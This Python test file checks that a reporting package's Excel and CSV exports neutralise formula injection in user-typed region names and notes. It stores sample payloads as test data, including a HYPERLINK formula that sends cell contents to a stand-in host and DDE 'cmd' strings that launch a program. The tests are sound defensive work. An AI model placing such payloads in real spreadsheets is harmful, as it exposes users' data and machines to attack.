"""Formula injection (issue 8 item 5): names and notes typed by users never run as formulas.

A hand-made tree whose region names are formulas, and notes that start with = + - @, TAB or CR,
go through every writer: the evaluation and feedback workbooks (text kept as typed, stored as a
string with the quote prefix) and the csv export (a leading apostrophe).
"""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assessment.domain.model import Region, RegionTree
from assessment.reports import evaluation_workbook, export_frame, feedback_workbook, tidy_export
from assessment.reports.workbook import DANGEROUS_PREFIXES, Column, clean_text, is_dangerous, safe_text
from assessment.reports.writer import ReportBook
from tests.fixtures import SCORING_EDITION as EDITION
from tests.fixtures import full_values

EVIL_COUNTY = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'
EVIL_COUNTY_EN = "+cmd|' /C calc'!A0"
EVIL_CITY = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_CITY_EN = "-2+3+cmd|' /C calc'!A0"
NOTES = ["=1+2", "-2+3", "\t=1+1", "\r=2+2", "@A1", "+A1", "ok\x00\x07 (control characters)", "=A1", "-", "@"]

TREE = RegionTree(
    (
        Region("990000", "测试省", "Test Province", "province", None, 1_000_000),
        Region("990100", EVIL_CITY, EVIL_CITY_EN, "prefecture", "990000", 600_000),
        Region("990200", "乙市", "City B", "prefecture", "990000", 400_000),
        Region("990101", EVIL_COUNTY, EVIL_COUNTY_EN, "county", "990100", 100_000),
        Region("990102", "甲二县", "County A2", "county", "990100", 500_000),
        Region("990201", "乙一县", "County B1", "county", "990200", 300_000),
        Region("990202", "乙二县", "County B2", "county", "990200", 100_000),
    )
)


def _values() -> pd.DataFrame:
    values = pd.concat([full_values(2023, scale=0.9), full_values(2024)], ignore_index=True)
    mine = values["region_code"].isin(["990101", "990102"]) & (values["period"] == 2024)
    notes = NOTES[: int(mine.sum())]
    values["note"] = values["note"].astype("string")
    values.loc[mine, "note"] = notes
    return values


@pytest.fixture(scope="module")
def workbooks() -> dict[str, bytes]:
    values = _values()
    return {
        "evaluation_zh": evaluation_workbook(values, EDITION, TREE, (), jurisdiction="990000", period=2024),
        "evaluation_en": evaluation_workbook(
            values, EDITION, TREE, (), jurisdiction="990000", period=2024, lang="en"
        ),
        "feedback_zh": feedback_workbook(values, EDITION, TREE, (), region="990101", period=2024),
        "feedback_city_en": feedback_workbook(
            values, EDITION, TREE, (), region="990100", period=2024, lang="en"
        ),
    }


@pytest.mark.parametrize("name", ["evaluation_zh", "evaluation_en", "feedback_zh", "feedback_city_en"])
def test_no_cell_is_a_formula(workbooks: dict[str, bytes], name: str) -> None:
    data = workbooks[name]
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for part in zf.namelist():
            if part.startswith("xl/worksheets/sheet"):
                xml = zf.read(part).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, f"{name}:{part} holds a formula"
    wb = openpyxl.load_workbook(io.BytesIO(data))
    dangerous = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{name}!{ws.title}!{cell.coordinate}"
                if isinstance(cell.value, str) and cell.value.lstrip("\n").startswith(DANGEROUS_PREFIXES):
                    assert cell.data_type == "s" and cell.quotePrefix, f"{ws.title}!{cell.coordinate}"
                    dangerous += 1
    assert dangerous >= 1, "the injected names must be in the workbook"


def _texts(data: bytes) -> set[str]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return {
        c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)
    }


def test_names_and_notes_are_kept_as_typed(workbooks: dict[str, bytes]) -> None:
    zh = _texts(workbooks["evaluation_zh"])
    assert EVIL_COUNTY in zh and EVIL_CITY in zh
    en = _texts(workbooks["evaluation_en"])
    assert EVIL_COUNTY_EN in en and EVIL_CITY_EN in en
    for note in ("=1+2", "-2+3", "@A1", "+A1", "=A1", "-", "@", "\t=1+1"):
        assert note in zh, note
    assert "ok (control characters)" in zh  # characters XML cannot carry are dropped, not fatal
    fb = _texts(workbooks["feedback_zh"])
    assert {"=1+2", "-2+3", "@A1", "\t=1+1", EVIL_COUNTY + " (990101)"} <= fb
    assert EVIL_CITY not in _texts(workbooks["feedback_city_en"])  # the zh name is not in an en workbook


def test_csv_export_neutralises_names_and_keeps_numbers() -> None:
    frame = export_frame("scores", _values(), EDITION, TREE, (), jurisdiction="990000", periods=[2023, 2024])
    text = tidy_export(frame, "csv").decode("utf-8-sig")
    back = pd.read_csv(io.StringIO(text), dtype={"region_code": "string"})
    names = set(back["region_name_zh"]) | set(back["region_name_en"])
    assert "'" + EVIL_COUNTY in names and "'" + EVIL_COUNTY_EN in names
    assert not any(str(n).startswith(DANGEROUS_PREFIXES) for n in names)
    assert (back["gap_floor"] < 0).any(), "negative numbers stay numbers"
    assert pd.api.types.is_float_dtype(back["gap_floor"])


@given(st.text(max_size=40))
def test_safe_text_never_starts_a_formula(text: str) -> None:
    out = safe_text(text)
    assert not is_dangerous(out)
    assert out == text or out == "'" + text


@settings(max_examples=40, deadline=None)
@given(st.lists(st.text(max_size=30), min_size=1, max_size=5))
def test_sheet_writer_never_writes_a_formula(texts: list[str]) -> None:
    book = ReportBook()
    w = book.sheet("t", widths=[20])
    w.table(pd.DataFrame({"x": texts}), [Column("x", "x")])
    w.append(texts)  # the same texts through the row-by-row path
    back = openpyxl.load_workbook(io.BytesIO(book.to_bytes()))["t"]
    cells = [back.cell(i, 1) for i in range(2, len(texts) + 2)]
    cells += [back.cell(len(texts) + 2, j) for j in range(1, len(texts) + 1)]
    for text, cell in zip(texts * 2, cells, strict=True):
        assert cell.data_type != "f"
        cleaned = clean_text(text)
        if cleaned:
            assert cell.value == cleaned.replace("\r\n", "\n").replace("\r", "\n")
            assert cell.quotePrefix == is_dangerous(cleaned)
        else:
            assert cell.value is None
